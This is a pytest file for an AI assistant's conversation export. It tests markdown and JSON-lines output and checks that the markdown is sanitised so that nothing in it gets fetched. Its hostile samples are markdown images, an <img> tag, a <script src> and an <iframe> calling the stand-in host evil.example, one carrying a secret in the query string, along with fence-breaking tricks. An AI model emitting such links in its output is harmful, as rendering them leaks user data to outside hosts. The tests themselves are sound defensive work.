"""Exported conversations: complete, with sources, SQL and doubts, and harmless wherever they are opened."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from assistant.conversation import Conversation
from assistant.history import History, Kept, export
from assistant.messages import Reply
from search import Filters, Library
from tests.assistant.kept_talks import FILES, ask
from tests.assistant.scripted import Scripted, says

TABLE = "carrier,parcels\nNordpost,120\nKurierwerk,90\n"
QUERY = ("b", "run_sql", json.dumps({"sql": "SELECT sum(parcels)\nFROM carriers\nWHERE carrier != ?", "parameters": ["`x`"]}))
SEARCH = ("a", "keyword_search", '{"query": "gateway"}')


@pytest.fixture
def library(write: Callable[[str, str], Path], indexed: Callable[[], Library]) -> Library:
    for path, text in FILES.items():
        write(path, text)
    write("tables/carriers.csv", TABLE)
    return indexed()


@pytest.fixture
def exported(library: Library) -> Iterator[Callable[..., Kept]]:
    """Keeps a conversation of one turn with these replies."""
    with History.open() as history:

        def keep(*replies: Reply, question: str = "how many *parcels*?") -> Kept:
            conversation = Conversation(library, Scripted(replies))
            session = history.begin(library.path)
            history.add(session, ask(conversation, question), conversation.snapshot(), Filters())
            return history.load(session)

        yield keep


def all_tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from all_tokens(token.children or [])


def fetching(text: str) -> list[str]:
    return [
        token.type
        for token in all_tokens(MarkdownIt("commonmark").parse(text))
        if token.type in {"image", "html_inline", "html_block"}
    ]


def test_markdown_has_answers_sources_sql_and_what_failed(library: Library, exported: Callable[..., Kept]) -> None:
    key = library.keyword_search("gateway")[0].passage.key
    text = export.markdown(exported(says("", SEARCH, QUERY), says(f"The gateway gives up after 9 seconds [{key}]. *So* it is.")))
    assert "# how many \\*parcels\\*?" in text
    assert "## 1. how many \\*parcels\\*?" in text
    assert re.search(r"gives up after 9.{0,30} seconds \[1\]\. \*So\* it is\.", text)
    assert re.search(rf"- \[1\] `runbooks/gateway\.md:[\d-]+` · {key}", text)
    assert "**Failed the check**" in text
    assert "**Queries that are not cited**" in text
    assert "  ```sql\n  SELECT sum(parcels)" in text
    assert '-- ? = "`x`"' in text
    assert "scripted:test" in text
    assert str(library.path.resolve()) in text
    assert fetching(text) == []


def test_json_lines_hold_a_turn_each(exported: Callable[..., Kept], library: Library) -> None:
    kept = exported(says("", SEARCH), says("Not in your documents."))
    (line,) = export.jsonl(kept)
    row = json.loads(line)
    assert (row["conversation"], row["turn"], row["library"]) == (kept.session.id, 1, str(library.path.resolve()))
    assert (row["outcome"], row["today"]) == ("absent", "2026-10-15")
    assert row["nearest"][0]["source"].startswith("runbooks/gateway.md")


HOSTILE = [
    "![see](http://evil.example/?q=secret)",
    "![see][x]\n\n[x]: http://evil.example/",
    "\\\\![see](http://evil.example/)",
    'text <img src="http://evil.example/"> more',
    "<script src='http://evil.example/x.js'></script>",
    "<div>\n```\n</div>\n\n```\n![x](http://evil.example/)\n```",
    "```\nnever closed\n![x](http://evil.example/)",
    "- item\n\n  <iframe src='http://evil.example/'>",
    "> <!-- -->\n> ![x](http://evil.example/)",
    "~~~\n```\n![x](http://evil.example/)",
]


@pytest.mark.parametrize("first", HOSTILE)
@pytest.mark.parametrize("second", ["```\n![x](http://evil.example/)\n```", "~~~~\n<img src=x>\n~~~~", "plain"])
def test_nothing_that_a_reader_would_fetch_is_left(exported: Callable[..., Kept], first: str, second: str) -> None:
    kept = exported(says(first))
    later = Kept(kept.session, (*kept.turns, *exported(says(second)).turns), kept.snapshot)
    text = export.markdown(later)
    assert fetching(text) == []
    assert text.rstrip().endswith("*")  # no block of code runs over the end


PIECES = [
    "![x](http://e/)",
    "<b>",
    "</b>",
    "<!--",
    "-->",
    "```",
    "~~~",
    "`",
    "\\",
    "\n",
    "\n\n",
    "    ",
    "- ",
    "> ",
    "a",
    "<div>",
    "!",
    "[",
]


@settings(deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_any_markdown_becomes_harmless_and_stays_so(text: str) -> None:
    cleaned = export.harmless(text)
    assert fetching(cleaned) == []
    assert fetching(cleaned + "\n\n## Next\n\n```\n![x](http://e/)\n```\n") == []
    assert export.harmless(cleaned) == cleaned


@pytest.mark.parametrize(
    "text", ["`List<String>` and ![not](x", "```\nList<String> x;\n```", "a < b > c, 1 <2", "*so* [it](http://x) is"]
)
def test_what_does_no_harm_stays_as_it_is(text: str) -> None:
    assert export.harmless(text) == text
